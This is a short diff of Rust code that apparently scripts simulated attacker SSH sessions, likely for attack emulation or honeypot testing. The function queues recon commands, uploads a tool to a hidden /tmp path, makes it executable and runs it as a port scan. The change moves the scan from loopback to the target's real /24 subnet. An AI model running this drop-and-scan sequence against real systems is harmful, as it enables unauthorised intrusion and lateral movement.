@@ -66,10 +66,11 @@ fn stop(
     draw: &mut Draw,
 ) -> Vec<Act> {
     let path = format!("/tmp/.{}", tool.name);
+    let [a, b, c, _] = door.address.ip().octets();
     let mut work = vec![run("id; hostname"), run(draw.word(&lists::entries(RECON)))];
     work.extend(lists::entries(NEIGHBOURS).into_iter().map(run));
     work.push(SshWork::Sftp { path: path.clone(), payload: tool.clone() });
-    work.push(run(&format!("chmod +x {path} && {path} -t 127.0.0.0/8 -p 22,23,80,445")));
+    work.push(run(&format!("chmod +x {path} && {path} -t {a}.{b}.{c}.0/24 -p 22,23,80,445")));
     work.push(run(&format!("ls -la {path}; cat /etc/hostname")));
     let visit = |username: &str, passwords, work| {
         let client = SshClient::OpenSsh;
